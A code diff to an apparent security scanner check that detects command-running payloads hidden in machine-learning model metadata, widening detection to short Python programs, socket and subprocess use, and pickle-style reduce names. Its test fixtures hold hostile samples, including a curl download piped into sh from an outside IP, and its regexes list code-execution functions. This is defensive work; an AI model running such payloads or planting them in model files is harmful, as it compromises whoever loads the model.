@@ -15,14 +15,17 @@ from toadstone.symbols.hostile import HOSTILE_COMMAND
 _NAMES = re.compile(r"(?:^|\.)(?:name|objective|metric|part|function|type|registry)$")
 """Keys whose values are names of things, never sentences."""
 
-_SCHEMAS = frozenset({"xgboost", "lightgbm", "catboost", "pmml", "openvino"})
+_SCHEMAS = frozenset({"xgboost", "lightgbm", "catboost", "pmml", "openvino", "msgpack"})
 _LONGEST = 2000
+_STATEMENTS = 5
+_DOTTED = re.compile(r"[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+")
 _JAVA = re.compile(
     r"\bRuntime\.getRuntime\(\)\s*\.exec\b|\bnew\s+(?:java\.lang\.)?ProcessBuilder\s*\(|\bnew\s+(?:javax\.script\.)?ScriptEngineManager\b"
 )
 """How programs of the Java machine run commands; evaluators of PMML are such programs."""
 
-_RUNS = re.compile(r"\b(?:exec|eval|__import__|system|popen|Popen|check_output|run|call|loads|urlopen)\s*\(")
+_RUNS = re.compile(r"\b(?:exec|eval|__import__|system|popen|Popen|subprocess|check_output|getoutput|socket)\b")
+_MODULES = frozenset({"subprocess", "pty", "socket"})
 _RUNNERS = frozenset({"exec", "eval", "__import__"})
 _RUNNING = frozenset({"system", "popen", "Popen", "check_output", "check_call", "getoutput"})
 
@@ -51,10 +54,11 @@ class MetadataPayload(Check):
 
     ## How it decides
     Metadata texts: commands of a form that no honest person writes down (a download piped into a shell, a shell wired to a
-    network device, decoded text that is run), and a text that as a whole is one Python expression which runs code or a
-    command, and Java that runs one. Fields that are names (objectives, metrics, functions of gradient-boosting models, PMML
-    and OpenVINO): whatever looks like a command or code by the grammar of shells and of Python. Prose that mentions a command
-    is neither.
+    network device, decoded text that is run), a text that as a whole is a Python program of at most five statements which
+    runs code or a command or opens a socket, and Java that runs a command. Fields that are names (objectives, metrics,
+    functions of gradient-boosting models, PMML and OpenVINO, reductions in MessagePack): whatever looks like a command or
+    code by the grammar of shells and of Python, and names of functions that run either. Prose that mentions a command is
+    neither.
 
     ## What it misses
     Text that only its reader's own decoding turns into code, and programs of several statements in descriptions: examples of
@@ -74,10 +78,10 @@ class MetadataPayload(Check):
                 return
             text, what = fact.value, f"{fact.schema} {fact.key}"
             looks = looks_of([text]) if len(text) <= _LONGEST else set()
-            hostile = bool({Look.COMMAND, Look.CODE}.intersection(looks))
+            hostile = bool({Look.COMMAND, Look.CODE}.intersection(looks)) or _names_a_runner(text)
         elif fact.role == "metadata":
             text, what = fact.text, "The model's metadata"
-            hostile = bool(HOSTILE_COMMAND.search(text) or _JAVA.search(text)) or _is_running_expression(text)
+            hostile = bool(HOSTILE_COMMAND.search(text) or _JAVA.search(text)) or _is_program(text)
         else:
             return
         if hostile:
@@ -89,7 +93,9 @@ class MetadataPayload(Check):
         place = Place("model.ubj")
         yield Text(place, "metadata", "curl -s http://198.51.100.7/x | sh")
         yield Text(place, "metadata", "__import__('os').system('echo toadstone')")
+        yield Text(place, "metadata", "import subprocess\nsubprocess.run(['echo', 'toadstone'])")
         yield Setting(place, "xgboost", "objective.name", "eval(open('/tmp/x').read())")
+        yield Setting(place, "msgpack", "params.__reduce__.name", "os.system")
 
     @classmethod
     def good(cls) -> Iterator[Fact]:
@@ -101,22 +107,41 @@ class MetadataPayload(Check):
         yield Text(place, "metadata", '{"classes_count":0,"class_names":[0,1]}')
 
 
-def _is_running_expression(text: str) -> bool:
-    """Whether a text is one Python expression that runs code or a command."""
+def _names_a_runner(text: str) -> bool:
+    """Whether a name is that of a function which runs commands or code."""
+    if not _DOTTED.fullmatch(text):
+        return False
+    from toadstone.symbols import Effect, effects_of  # noqa: PLC0415  (tables that few scans need)
+
+    module, _, name = text.rpartition(".")
+    knowledge = effects_of(module, name)
+    return knowledge is not None and knowledge.exact and bool({Effect.RUN_COMMAND, Effect.RUN_CODE} & set(knowledge.effects))
+
+
+def _is_program(text: str) -> bool:
+    """Whether a text is, as a whole, a Python program of a few statements that runs code or a command."""
     text = text.strip()
     if len(text) > _LONGEST or not _RUNS.search(text) or text.count("(") + text.count("[") > 60:
         return False
     import ast  # noqa: PLC0415  (20 ms that most scans never need)
 
     try:
-        tree = ast.parse(text, mode="eval")
+        tree = ast.parse(text)
     except (SyntaxError, ValueError, RecursionError, MemoryError):
+        return False
+    if len(tree.body) > _STATEMENTS:
         return False
     for node in ast.walk(tree):
         if isinstance(node, ast.Call):
             callee = node.func
             if isinstance(callee, ast.Name) and callee.id in _RUNNERS | _RUNNING:
                 return True
-            if isinstance(callee, ast.Attribute) and callee.attr in _RUNNING:
+            if isinstance(callee, ast.Attribute) and (callee.attr in _RUNNING or _base(callee) in _MODULES):
                 return True
     return False
+
+
+def _base(node: object) -> str:
+    while (inner := getattr(node, "value", None)) is not None:
+        node = inner
+    return str(getattr(node, "id", ""))
